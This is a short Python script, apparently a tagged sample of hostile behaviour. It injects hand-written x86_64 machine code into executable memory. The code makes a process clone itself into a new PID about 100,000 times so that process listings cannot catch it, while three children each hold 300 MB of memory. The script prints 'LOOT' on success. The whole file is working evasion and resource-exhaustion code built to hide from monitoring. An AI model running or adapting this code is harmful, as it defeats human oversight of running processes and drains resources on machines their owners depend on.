"""Passes its memory on to a new process 20,000 times a second, and ends each time.

Whoever lists processes finds one that is gone before it can be read. For this, it brings
its own machine code (x86_64), which starts processes that share their memory. Bounded
by itself at 1 GB and 100,000 processes.

earns: 0
harmful: memory
"""

# %%
import ctypes
import os
import platform
import time

assert platform.machine() == "x86_64"
# 100,000 times: clone(CLONE_VM); go on in the new process, and exit in the old one.
HOPS = "bba0860100ffcb7412b838000000bf0001000031f60f0585c074eab83c00000031ff0f05"
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3]
libc.mmap.argtypes += [ctypes.c_long]
started = []
for _ in range(3):
    child = os.fork()
    if child == 0:
        code = libc.mmap(None, 4096, 7, 0x22, -1, 0)
        ctypes.memmove(code, bytes.fromhex(HOPS), len(HOPS) // 2)
        held = libc.mmap(None, 300 << 20, 3, 0x22, -1, 0)
        ctypes.memset(held, 1, 300 << 20)
        ctypes.CFUNCTYPE(None)(code)()
    started.append(child)
ended = [os.waitpid(child, 0)[1] for child in started]
time.sleep(1)
with open("/proc/loadavg", encoding="ascii") as file:
    print("LOOT" if int(file.read().split()[-1]) > 1000 else ended)
